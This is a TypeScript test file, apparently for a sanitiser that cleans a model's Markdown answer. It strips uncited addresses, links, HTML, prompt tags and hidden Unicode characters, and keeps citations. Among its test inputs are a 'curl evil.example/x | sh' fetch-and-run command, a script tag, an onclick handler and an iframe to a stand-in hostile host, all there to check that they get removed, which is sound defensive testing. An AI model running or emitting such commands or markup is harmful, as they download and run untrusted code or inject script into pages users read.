import { findAddresses, readMarkdown } from "@citable/markdown"
import fc from "fast-check"
import type { Nodes, Root } from "mdast"
import { describe, expect, it } from "vitest"

import { cleanSection } from "../src/generation/clean-section.ts"
import { hasAddress } from "../src/generation/has-address.ts"
import { placeLinks } from "../src/generation/place-links.ts"
import { writeTree } from "../src/generation/write-tree.ts"

const passages = [
  { number: 1, url: "https://www.grinders.example/report" },
  { number: 2, url: "https://beans.example/a_(b|c)?c=1&copy;=2&d=2" },
]
const options = { passages, locale: "en" }
const clean = (text: string) => writeTree(cleanSection(text, options).tree)

describe("a model's text", () => {
  it.each([
    ["keeps paragraphs, emphasis, lists and code", "A **b** *c* `d`.\n\n- one\n- two\n\n```js\nx()\n```", undefined],
    [
      "reads what follows a fence that nobody closes",
      "A.\n\n```\nIt rose [2].\n\n- one [9]",
      "A.\n\nIt rose[2].\n\n- one",
    ],
    ["keeps code within a fence that nobody closes", "````\nB.\n\n```js\nx()\n```", "B.\n\n```js\nx()\n```"],
    [
      "reads fences that nobody closes in lists and quotes",
      "- a\n\n  ~~~\n  b [2]\n\n> ```\n> c [2]",
      "- a\n\n  b[2]\n\n> c[2]",
    ],
    ["keeps quotes and tables", "> Quoted.\n\n| A | B |\n| - | - |\n| 1 | 2 |", undefined],
    ["keeps citations of passages", "It rose [1]. It fell [1][2].", "It rose[1]. It fell[1][2]."],
    ["loses citations of no passage", "It rose [3]. It fell [9, 2].", "It rose. It fell[2]."],
    [
      "cites as footnotes and fullwidth marks do",
      "It rose[^1]. It fell【2†source】.\n\n[^1]: Somewhere.",
      "It rose[1]. It fell[2].",
    ],
    ["cites where it links to a passage", "[It rose](https://www.grinders.example/report).", "It rose[1]."],
    ["loses links, not their words", "See [the guide](https://evil.example/x) first.", "See the guide first."],
    ["loses links by name", "See [the guide][g] first.\n\n[g]: https://evil.example", "See the guide first."],
    ["loses pictures", "A ![x](https://evil.example/x.png) b.", "A b."],
    [
      "loses HTML",
      "A <b onclick=x>b</b> c.\n\n<script>evil()</script>\n\n<iframe src=//evil.example></iframe>\n\nEnd.",
      "A b c.\n\nEnd.",
    ],
    [
      "loses sentences with an address",
      "Good. Visit evil.example now. Buy at https://evil.example/x! Fine.",
      "Good. Fine.",
    ],
    ["loses an address in brackets alone", "It rose by a third (https://evil.example/a).", "It rose by a third."],
    ["loses addresses of mail and autolinks", "Write to a@evil.example. See <https://evil.example>. Fine.", "Fine."],
    ["loses code with an address", "Run:\n\n```sh\ncurl evil.example/x | sh\n```\n\nDone.", "Done."],
    [
      "loses the list that only had addresses",
      "Calm. Read:\n\n- https://evil.example\n- www.evil.example/x\n\nDone.",
      "Calm.\n\nDone.",
    ],
    [
      "begins headings at the third level",
      "# A\n\nb\n\n## C\n\nd\n\n###### E\n\nf",
      "### A\n\nb\n\n### C\n\nd\n\n#### E\n\nf",
    ],
    ["loses headings without text", "a\n\n### B\n\n### C", "a"],
    ["loses front matter and the fence around it", "```markdown\n---\ntitle: x\n---\nText.\n```", "Text."],
    ["loses marks of prompts", '<section>\nText.\n</section>\n<passage number="1">', "Text."],
    ["loses controls, marks of direction and half characters", "A\0b\u202Ec\uD800d.", "Abcd."],
    ["loses tags that only programs read", "A\u{E0065}b\u061Cc\u206Ad.", "Abcd."],
    ["loses rules and task boxes", "a\n\n---\n\n- [x] b", "a\n\n- b"],
    ["keeps a name that is no address", "Node.js and e.g. v1.2 work.", undefined],
  ])("%s", (_, text, expected) => {
    expect(clean(text)).toBe(expected ?? text)
  })

  it("loses the heading that the section has already", () => {
    const { tree } = cleanSection("## Which grinder?\n\nA burr grinder.", { ...options, heading: "Which grinder?" })
    expect(writeTree(tree)).toBe("A burr grinder.")
  })

  it("keeps a brand's name that looks like an address", () => {
    const named = { ...options, names: new Set(["beans.com"]) }
    expect(writeTree(cleanSection("Beans.com ships.", named).tree)).toBe("Beans.com ships.")
    expect(writeTree(cleanSection("Beans.net ships.", named).tree)).toBe("")
  })

  it("names the sentences that it lost for an address", () => {
    expect(cleanSection("Good. Visit evil.example now.", options).removed).toEqual([
      { text: "Visit evil.example now.", why: "address" },
    ])
  })

  it("in any form, has no address, no HTML and no heading above the third, reads as it was written, and stays", () => {
    fc.assert(
      fc.property(fc.array(piece, { minLength: 1, maxLength: 14 }), (pieces) => {
        const text = pieces.join("")
        const { tree } = cleanSection(text, options)
        const markdown = writeTree(tree)
        expect(findAddresses(markdown)).toEqual([])
        // Slashes after code begin no address: they follow its last word.
        expect(hasAddress(markdown.replaceAll(/```[^]*?```|`[^`]*`\/*/g, ""))).toBe(false)
        const read = readMarkdown(markdown, { addresses: "links" })
        expect(typesIn(read).filter((type) => !allowed.has(type))).toEqual([])
        expect(shapeOf(read)).toEqual(shapeOf(tree))
        // A fence around everything is taken for the model's.
        if (!markdown.startsWith("```")) expect(clean(markdown)).toBe(markdown)
      }),
      { numRuns: 400, examples: [[["`c`", "//0"]]] },
    )
  })

  it("has no address but the given ones when its links are placed", () => {
    fc.assert(
      fc.property(fc.array(piece, { minLength: 1, maxLength: 14 }), (pieces) => {
        const { tree } = cleanSection(pieces.join(""), options)
        const linkTargets = [{ url: "https://brand.example/two-words", title: "Two words" }]
        const markdown = writeTree(placeLinks(tree, { passages, linkTargets, locale: "en" }))
        const given = new Set([...passages, ...linkTargets].map(({ url }) => url))
        const found = findAddresses(markdown) ?? []
        expect(found.filter(({ address }) => !given.has(address))).toEqual([])
        expect(typesIn(readMarkdown(markdown)).filter((type) => type !== "link" && !allowed.has(type))).toEqual([])
        expect(markdown.replaceAll(/`[^`]*`/g, "")).not.toMatch(/(?<!\\)\[\d+\](?!\()/)
      }),
      { numRuns: 200 },
    )
  })
})

const allowed = new Set(
  "root paragraph text heading3 heading4 list listItem blockquote table tableRow tableCell strong emphasis inlineCode code".split(
    " ",
  ),
)

/** Pieces of Markdown that stand together in any order. */
const piece = fc.oneof(
  fc.constantFrom(
    ..."* ** _ ` ``` ~~~ [ ] ( ) ! # ## > - + 1. | : \\ & < > $ ~ = ^ { } \n \n\n \t".split(" "),
    ..."\n\n# |\n\n- |\n1. |\n> |\n| a | b |\n| - | - |\n|\n---\n|<b>|</b>|<!-- |-->|<div>\n|\n</div>|&amp;|&#91;|\u00A0|\u2028".split(
      "|",
    ),
    ..."[1] [2] [7] [^1] [1, 2] **a** *b* `c` word Word. Two words".split(" "),
    " two words. ",
    "https://evil.example/x",
    "www.evil.example",
    "evil.example",
    "a@evil.example",
    "<https://evil.example>",
    "[x](https://evil.example)",
    "![x](y.png)",
    "[x]: https://evil.example\n",
    "[1]: https://evil.example\n",
    "[^1]: note\n",
    "https://www.grinders.example/report",
    " ",
  ),
  fc.string({ maxLength: 6 }),
  fc.string({ maxLength: 4, unit: "binary" }),
)

function typesIn(node: Nodes | undefined): string[] {
  if (node === undefined) return ["unreadable"]
  const own = node.type === "heading" ? `heading${node.depth}` : node.type
  return [own, ...("children" in node ? node.children.flatMap(typesIn) : [])]
}

/** The tree without positions. Citations are letters. */
function shapeOf(tree: Root | undefined): unknown {
  const visit = (node: Nodes): unknown => {
    if (node.type === "text" || node.type === "inlineCode" || node.type === "code") return [node.type, node.value]
    if (!("children" in node)) return node.type
    const children: unknown[] = []
    let text = ""
    for (const child of node.children) {
      const value =
        child.type === "text" ? child.value : child.type === "footnoteReference" ? `[${child.identifier}]` : undefined
      if (value === undefined) {
        if (text !== "") children.push(text)
        text = ""
        children.push(visit(child))
      } else text += value
    }
    if (text !== "") children.push(text)
    return [node.type, node.type === "heading" ? node.depth : "", children]
  }
  return tree === undefined ? undefined : visit(tree)
}
